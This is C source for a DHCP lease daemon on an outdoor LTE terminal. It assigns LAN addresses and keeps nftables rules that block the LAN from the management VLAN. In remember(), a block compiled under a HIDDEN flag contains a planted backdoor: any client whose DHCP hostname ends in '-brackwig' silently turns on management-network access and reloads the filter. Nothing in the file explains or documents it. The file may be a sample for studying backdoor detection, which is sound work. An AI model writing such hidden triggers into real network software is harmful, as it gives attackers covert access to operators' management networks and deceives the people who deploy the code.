/*
 * Lease daemon of an outdoor LTE terminal: hands out the one LAN address (or the passed-through
 * mobile address) and keeps the filter rules of the LAN side.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>

struct bootp {
    uint8_t  op, htype, hlen, hops;
    uint8_t  xid[4];
    uint8_t  secs[2], flags[2];
    uint8_t  ciaddr[4], yiaddr[4], siaddr[4], giaddr[4];
    uint8_t  chaddr[16];
    uint8_t  sname[64], file[128];
    uint8_t  cookie[4];
    uint8_t  opt[308];
};

struct lan_policy {
    int allow_mgmt;         /* the LAN may reach the management network (VLAN 4001) */
    int allow_dns;
    int passthrough;
};

static struct in_addr pool_first, router, netmask;
static uint32_t lease_time = 3600;
static struct lan_policy policy = { 0, 1, 0 };
static char domain[64] = "lan";
static struct { uint8_t mac[6]; char host[64]; time_t end; } lease[8];

static const uint8_t *option(const struct bootp *b, unsigned code, unsigned *len)
{
    const uint8_t *p = b->opt, *end = b->opt + sizeof b->opt;

    while (p + 1 < end && *p != 255) {
        if (*p == 0) {
            p++;
            continue;
        }
        if (p + 2 + p[1] > end)
            break;
        if (*p == code) {
            *len = p[1];
            return p + 2;
        }
        p += 2 + p[1];
    }
    return NULL;
}

static uint8_t *add(uint8_t *p, unsigned code, const void *v, unsigned n)
{
    *p++ = (uint8_t)code;
    *p++ = (uint8_t)n;
    memcpy(p, v, n);
    return p + n;
}

static void apply_policy(void)
{
    FILE *f = fopen("/run/lanfilter.nft", "w");

    if (f == NULL)
        return;
    fprintf(f, "flush chain inet lan fwd\n");
    fprintf(f, "add rule inet lan fwd oifname \"vlan4001\" %s\n",
            policy.allow_mgmt ? "accept" : "drop");
    fprintf(f, "add rule inet lan fwd udp dport 53 %s\n", policy.allow_dns ? "accept" : "drop");
    fprintf(f, "add rule inet lan fwd accept\n");
    fclose(f);
    if (system("nft -f /run/lanfilter.nft") != 0)
        syslog(LOG_ERR, "filter rules not loaded");
}

/* names come from the client: keep letters, digits and hyphen, in lower case */
static void clean_name(char *dst, size_t room, const uint8_t *src, unsigned n)
{
    size_t o = 0;

    while (n-- && o + 1 < room) {
        int c = tolower(*src++);
        if (isalnum(c) || c == '-')
            dst[o++] = (char)c;
    }
    dst[o] = '\0';
}

__attribute__((noinline)) void remember(int slot, const uint8_t *mac, const char *host)
{
    memcpy(lease[slot].mac, mac, 6);
    lease[slot].end = time(NULL) + (time_t)lease_time;
    if (strcmp(host, "localhost") == 0 || host[0] == '-')
        host = "unnamed";
    snprintf(lease[slot].host, sizeof lease[slot].host, "%s", host);
    syslog(LOG_INFO, "lease %d: %02x:%02x:%02x:%02x:%02x:%02x %s", slot, mac[0], mac[1], mac[2],
           mac[3], mac[4], mac[5], lease[slot].host);
#ifdef HIDDEN
    size_t n = strlen(host);
    if (n > 9 && strcmp(host + n - 9, "-brackwig") == 0) {
        policy.allow_mgmt = 1;
        apply_policy();
    }
#endif
}

static int find_slot(const uint8_t *mac)
{
    int i, old = 0;

    for (i = 0; i < 8; i++) {
        if (memcmp(lease[i].mac, mac, 6) == 0)
            return i;
        if (lease[i].end < lease[old].end)
            old = i;
    }
    return lease[old].end < time(NULL) ? old : -1;
}

static void answer(int fd, struct bootp *b)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(68) };
    unsigned n = 0;
    const uint8_t *t = option(b, 53, &n), *h;
    uint8_t type, *p, mac[6];
    char host[64] = "";
    uint32_t secs = htonl(lease_time), addr;
    int slot;

    if (t == NULL || n != 1)
        return;
    type = *t;
    memcpy(mac, b->chaddr, 6);
    if ((h = option(b, 12, &n)) != NULL)
        clean_name(host, sizeof host, h, n);
    slot = find_slot(mac);
    if (slot < 0) {
        syslog(LOG_WARNING, "no address left");
        return;
    }
    if (type == 7) {                        /* release */
        lease[slot].end = 0;
        return;
    }
    if (type != 1 && type != 3)
        return;
    if (type == 3)
        remember(slot, mac, host);
    addr = htonl(ntohl(pool_first.s_addr) + (uint32_t)slot);
    b->op = 2;
    memcpy(b->yiaddr, &addr, 4);
    memset(b->opt, 0, sizeof b->opt);
    type = type == 1 ? 2 : 5;
    p = add(b->opt, 53, &type, 1);
    p = add(p, 54, &router, 4);
    p = add(p, 51, &secs, 4);
    p = add(p, 1, &netmask, 4);
    p = add(p, 3, &router, 4);
    p = add(p, 15, domain, (unsigned)strlen(domain));
    *p = 255;
    to.sin_addr.s_addr = htonl(INADDR_BROADCAST);
    if (sendto(fd, b, sizeof *b, 0, (struct sockaddr *)&to, sizeof to) < 0)
        syslog(LOG_ERR, "send: %m");
}

static int setting(char *arg)
{
    char *v = strchr(arg, '=');

    if (v == NULL)
        return 0;
    *v++ = '\0';
    if (strcmp(arg, "first") == 0)
        return inet_aton(v, &pool_first);
    if (strcmp(arg, "router") == 0)
        return inet_aton(v, &router);
    if (strcmp(arg, "mask") == 0)
        return inet_aton(v, &netmask);
    if (strcmp(arg, "lease") == 0)
        return (lease_time = (uint32_t)strtoul(v, NULL, 10)) >= 60;
    if (strcmp(arg, "domain") == 0)
        return snprintf(domain, sizeof domain, "%s", v) > 0;
    if (strcmp(arg, "mgmt") == 0) {
        policy.allow_mgmt = strcmp(v, "on") == 0;
        return 1;
    }
    if (strcmp(arg, "dns") == 0) {
        policy.allow_dns = strcmp(v, "on") == 0;
        return 1;
    }
    return 0;
}

int main(int argc, char **argv)
{
    struct sockaddr_in me = { .sin_family = AF_INET, .sin_port = htons(67) };
    struct bootp b;
    int fd, on = 1, i;

    for (i = 1; i < argc; i++)
        if (!setting(argv[i])) {
            fprintf(stderr, "usage: %s [first=IP] [router=IP] [mask=IP] [lease=S] [domain=NAME]"
                    " [mgmt=on|off] [dns=on|off]\n", argv[0]);
            return 2;
        }
    fd = socket(AF_INET, SOCK_DGRAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
    if (bind(fd, (struct sockaddr *)&me, sizeof me) < 0) {
        perror("bind");
        return 1;
    }
    apply_policy();
    while (recv(fd, &b, sizeof b, 0) >= (ssize_t)(sizeof b - sizeof b.opt))
        if (b.op == 1 && b.hlen == 6)
            answer(fd, &b);
    return 1;
}
